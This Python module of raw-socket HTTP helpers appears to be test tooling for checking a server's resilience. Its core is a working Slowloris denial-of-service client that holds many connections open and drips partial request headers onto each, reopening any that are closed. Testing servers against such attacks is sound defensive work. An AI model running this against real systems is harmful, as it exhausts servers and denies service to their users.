"""Clients that mean no good to an HTTP server, over raw sockets."""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress
from urllib.parse import urlsplit

SLOW_HEADERS = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Padding: " + b"a" * 8000


def dial(address: str, timeout_s: float = 10.0) -> socket.socket:
    """Connect to a server, given as http://host:port."""
    place = urlsplit(address)
    assert place.hostname is not None
    return socket.create_connection((place.hostname, place.port or 80), timeout=timeout_s)


def say(address: str, request: bytes, timeout_s: float = 10.0) -> bytes:
    """Send bytes, and read what is answered until the server closes or says no more for a while."""
    answer = b""
    with dial(address, timeout_s) as connection, suppress(OSError):
        connection.sendall(request)
        while data := connection.recv(65536):
            answer += data
    return answer


def status(answer: bytes) -> int:
    """The status of an answer; 0 where there is none."""
    return int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/") else 0


class SlowLoris:
    """Opens connections and keeps sending a byte on each, never a whole request.

    A connection that is closed on it is opened again.
    """

    def __init__(self, address: str, connections: int) -> None:
        """Take whom to attack, and with how many connections."""
        self._address = address
        self._count = connections
        self._stopping = threading.Event()
        self._thread = threading.Thread(target=self._run)
        self.opened = 0
        self.closed_on = 0

    def start(self) -> None:
        """Begin."""
        self._thread.start()
        deadline = time.monotonic() + 30
        while self.opened < self._count and time.monotonic() < deadline:
            time.sleep(0.05)
        assert self.opened >= self._count

    def stop(self) -> None:
        """End."""
        self._stopping.set()
        self._thread.join()

    def _run(self) -> None:
        with ExitStack() as stack:
            held: list[tuple[socket.socket, int]] = []
            while not self._stopping.is_set():
                held = [one for one in held if self._drip(one)]
                held = [(connection, sent + 1) for connection, sent in held]
                while len(held) < self._count and not self._stopping.is_set():
                    with suppress(OSError):
                        connection = stack.enter_context(dial(self._address))
                        connection.settimeout(0)
                        held.append((connection, 0))
                        self.opened += 1
                self._stopping.wait(0.2)

    def _drip(self, one: tuple[socket.socket, int]) -> bool:
        """Send one more byte; whether the server still takes it."""
        connection, sent = one
        try:
            if connection.recv(1) == b"":
                raise ConnectionResetError
        except BlockingIOError:
            pass
        except OSError:
            self.closed_on += 1
            connection.close()
            return False
        with suppress(OSError):
            connection.send(SLOW_HEADERS[sent % len(SLOW_HEADERS) :][:1])
        return True


@contextmanager
def slow_loris(address: str, connections: int) -> Iterator[SlowLoris]:
    """Attack while the context lasts."""
    attacker = SlowLoris(address, connections)
    attacker.start()
    try:
        yield attacker
    finally:
        attacker.stop()
